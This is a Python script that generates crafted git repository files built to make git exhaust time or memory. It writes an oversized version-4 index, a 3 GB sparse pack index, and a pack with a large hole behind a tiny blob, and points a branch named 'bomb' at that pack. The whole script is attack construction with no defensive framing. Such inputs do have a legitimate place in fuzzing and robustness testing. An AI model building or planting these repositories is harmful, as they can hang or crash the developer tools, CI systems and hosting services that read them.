"""Small files in a git directory of whose reading there is no end in time or memory: paths, indexes or sparse."""
import hashlib, os, struct, subprocess, sys, zlib


def run(command, **more):
    return subprocess.run(command, shell=True, check=True, capture_output=True, **more).stdout.decode().strip()


def size(number):
    out = b""
    while True:
        byte, number = number & 0x7F, number >> 7
        out += bytes([byte | (0x80 if number else 0)])
        if not number:
            return out


def head(kind, length):
    first, length = kind << 4 | length & 15, length >> 4
    return bytes([first | (0x80 if length else 0)]) + (size(length) if length else b"")


def paths():
    """An index of version 4: each path is the one before and a byte more."""
    count = 100_000
    entries = b"".join(
        bytes(24) + struct.pack(">I", 0o100644) + bytes(12) + bytes.fromhex("e69de29bb2d1d6434b8b29ae775ad8c2e48c5391")
        + struct.pack(">H", min(n, 0xFFF)) + b"\0a\0"
        for n in range(1, count + 1)
    )
    body = b"DIRC" + struct.pack(">II", 4, count) + entries
    open(".git/index", "wb").write(body + hashlib.sha1(body).digest())


def indexes():
    """An index of a pack that is a hole."""
    for name in ("idx", "pack"):
        with open(f".git/objects/pack/pack-{'1' * 40}.{name}", "wb") as file:
            file.write(b"\xfftOc\0\0\0\2" if name == "idx" else b"PACK\0\0\0\2\0\0\0\0")
            file.truncate((3 << 30) if name == "idx" else 1000)


def with_pack(entries, hole=0):
    """A pack of `(name, entry)` with its index; what follows the last entry is a hole."""
    pack, index = b"PACK" + struct.pack(">II", 2, len(entries)), []
    for name, entry in entries:
        index.append((name, len(pack)))
        pack += entry
    path = f".git/objects/pack/pack-{'2' * 40}"
    with open(path + ".pack", "wb") as file:
        file.write(pack)
        file.truncate(len(pack) + hole)
        file.seek(0, 2)
        file.write(bytes(20))
    index.sort()
    fanout = b"".join(struct.pack(">I", sum(name[0] <= n for name, _ in index)) for n in range(256))
    rest = b"".join(name for name, _ in index) + bytes(4 * len(index)) + b"".join(struct.pack(">I", at) for _, at in index)
    open(path + ".idx", "wb").write(b"\xfftOc\0\0\0\2" + fanout + rest + bytes(40))


def commit_of(blobs):
    """A branch of a tree with these names for blobs."""
    tree = b"".join(b"100644 %06d\0" % n + name for n, name in enumerate(blobs))
    path = "/tmp/tree"
    open(path, "wb").write(tree)
    oid = run(f"git hash-object -w -t tree --literally {path}")
    commit = run(f"printf 'tree {oid}\\nauthor a <a@a> 0 +0000\\ncommitter a <a@a> 0 +0000\\n\\nx\\n' > /tmp/commit; "
                 "git hash-object -w -t commit --literally /tmp/commit")
    open(".git/refs/heads/bomb", "w").write(commit + "\n")


def sparse():
    """A blob behind whose stream there is a hole."""
    content = b"x"
    name = hashlib.sha1(b"blob 1\0" + content).digest()
    with_pack([(name, head(3, 1) + zlib.compress(content))], hole=300 << 20)
    commit_of([name])


globals()[sys.argv[1]]()
